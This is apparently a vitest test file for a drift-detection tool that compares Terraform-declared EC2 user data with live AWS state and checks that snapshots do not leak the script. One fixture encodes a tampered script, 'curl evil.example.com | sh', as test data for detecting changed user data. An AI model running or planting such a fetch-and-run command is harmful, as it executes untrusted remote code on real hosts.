import {createHash} from 'node:crypto'
import {mkdtemp, readFile, rm} from 'node:fs/promises'
import {tmpdir} from 'node:os'
import {join} from 'node:path'

import {afterAll, beforeAll, describe, expect, test} from 'vitest'

import {openSnapshot} from '../../../src/live/snapshot/read.ts'
import {writeSnapshot} from '../../../src/live/snapshot/write.ts'
import type {DeclaredResource} from '../../../src/model/declared.ts'
import type {LiveEvent, LivePage} from '../../../src/model/live.ts'
import {check} from '../../catalog/check-fixture.ts'
import {eventsOf, withoutEnds} from '../events-of.ts'
import {frankfurt} from '../fake-session.ts'
import {objectsIn, readRecorded} from '../service/replay.ts'

const script = '#!/bin/bash\nexport TOKEN=not-so-secret\n'
const base64 = Buffer.from(script).toString('base64')
const sha1 = createHash('sha1').update(script).digest('hex')
const origin = {createdAt: '2026-03-01T12:00:00Z', trueup: '0.1.0', locations: [frankfurt]}

let folder = ''
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'trueup-user-data-'))
})
afterAll(() => rm(folder, {recursive: true}))

/** An instance as EC2 answers, through the reader and a snapshot. */
async function snapshotOf(userData: string): Promise<{readonly events: readonly LiveEvent[]; readonly text: string}> {
  const instance = {InstanceId: 'i-0a1b2c3d', InstanceType: 'p5.48xlarge', State: {Name: 'running'}}
  const read = await readRecorded(
    {
      DescribeInstances: [{answer: {Reservations: [{Instances: [instance]}]}}],
      DescribeInstanceAttribute: [{for: {Attribute: 'userData'}, answer: {UserData: {Value: userData}}}],
    },
    frankfurt,
    [{type: 'AWS::EC2::Instance', declaredIds: ['i-0a1b2c3d'], unmanaged: true}],
  )
  const file = join(folder, `${createHash('sha1').update(userData).digest('hex')}.jsonl`)
  await writeSnapshot(asEvents(read), file, origin)
  return {events: withoutEnds(await eventsOf((await openSnapshot(file)).events)), text: await readFile(file, 'utf8')}
}

async function* asEvents(events: readonly LiveEvent[]): AsyncGenerator<LivePage> {
  yield events
}

function declared(attributes: DeclaredResource['attributes']): DeclaredResource {
  return {
    origin: 'recorded',
    address: 'aws_instance.trainer',
    mode: 'managed',
    type: 'aws_instance',
    name: 'trainer',
    provider: {text: 'provider["registry.terraform.io/hashicorp/aws"]'},
    tainted: false,
    attributes: {id: 'i-0a1b2c3d', arn: 'arn:aws:ec2:eu-central-1:111122223333:instance/i-0a1b2c3d', ...attributes},
    source: {file: 'terraform.tfstate'},
  }
}

async function driftOf(attributes: DeclaredResource['attributes'], userData: string): Promise<readonly string[]> {
  const {events} = await snapshotOf(userData)
  const scopes = events.flatMap((event) => (event.kind === 'scope' ? [event.scope] : []))
  const {findings} = check({name: 'user data', resources: [declared(attributes)], objects: objectsIn(events), scopes})
  return findings.map((finding) => `${finding.code} ${'path' in finding ? finding.path : ''}`)
}

describe('user data from a snapshot', () => {
  const forms = [
    ['its SHA-1, as states of providers before 6 hold it', {user_data: sha1}],
    ['its text, as states of provider 6 hold it', {user_data: script}],
    ['its Base64', {user_data_base64: base64}],
  ] as const

  test.each(forms)('equals %s', async (_, attributes) => {
    expect(await driftOf(attributes, base64)).toEqual([])
  })

  test.each(forms)('that was changed differs from %s', async (_, attributes) => {
    const changed = Buffer.from('#!/bin/bash\ncurl evil.example.com | sh\n').toString('base64')
    expect(await driftOf(attributes, changed)).toEqual(['drifted UserData'])
  })

  test('is not in the file, in no form', async () => {
    const {text} = await snapshotOf(base64)
    for (const form of [script, JSON.stringify(script).slice(1, -1), base64, sha1]) expect(text).not.toContain(form)
  })
})
